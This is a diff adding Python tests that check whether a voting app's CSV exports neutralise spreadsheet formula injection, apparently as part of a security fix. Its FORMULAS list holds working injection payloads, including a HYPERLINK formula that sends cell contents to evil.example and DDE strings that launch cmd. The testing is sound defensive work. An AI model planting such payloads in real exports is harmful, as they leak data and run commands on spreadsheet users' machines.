@@ -168,3 +168,54 @@ async def test_unknown_fields_are_refused_with_their_name(client, app, no_genera
     r = await client.post("/api/boards", json={"name": "B", "is_admin": True})
     assert r.status_code == 422 and "is_admin" in r.json()["detail"]
     assert await count(app, Comparison) == 1 and await count(app, Vote) == 0
+
+
+# ---- F5: CSV cells that a spreadsheet would run as a formula ---------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+async def _formula_votes(app) -> None:
+    from tests.support.factories import make_voter, vote
+
+    for i, text in enumerate(FORMULAS):
+        c = await ready_comparison(app, prompt=text, source_image=False)
+        voter = await make_voter(app, name=FORMULAS[-1 - i])
+        await vote(app, c, voter.id, take_a=c.takes[0].id, take_b=c.takes[1].id, outcome="a")
+
+
+def _cells(text: str) -> list[dict]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+async def test_csv_cells_that_start_a_formula_are_neutralised(client, app):
+    await _formula_votes(app)
+    for url in ("/api/votes.csv", "/api/boards/default/votes.csv"):
+        rows = _cells((await client.get(url)).text)
+        assert len(rows) == len(FORMULAS)
+        for row in rows:
+            for column in ("prompt", "judge"):
+                assert row[column][0] not in "=+-@\t\r", (url, column, row[column])
+                assert row[column].startswith("'") and row[column][1:] in FORMULAS
+        assert {r["prompt"][1:] for r in rows} == set(FORMULAS)
+
+
+async def test_csv_raw_setting_exports_cells_as_stored(client, app):
+    await _formula_votes(app)
+    app.state.settings.csv_raw = True
+    rows = _cells((await client.get("/api/votes.csv")).text)
+    assert {r["prompt"] for r in rows} == set(FORMULAS) and {r["judge"] for r in rows} == set(FORMULAS)
+
+
+async def test_csv_neutralising_keeps_ordinary_cells(client, app):
+    from tests.support.factories import make_voter, vote
+
+    c = await ready_comparison(app, prompt="a fox, running", source_image=False)
+    voter = await make_voter(app, name="Ann 'quote'")
+    await vote(app, c, voter.id, take_a=c.takes[0].id, take_b=c.takes[1].id, outcome="a")
+    rows = _cells((await client.get("/api/votes.csv")).text)
+    assert rows[0]["prompt"] == "a fox, running" and rows[0]["judge"] == "Ann 'quote'"
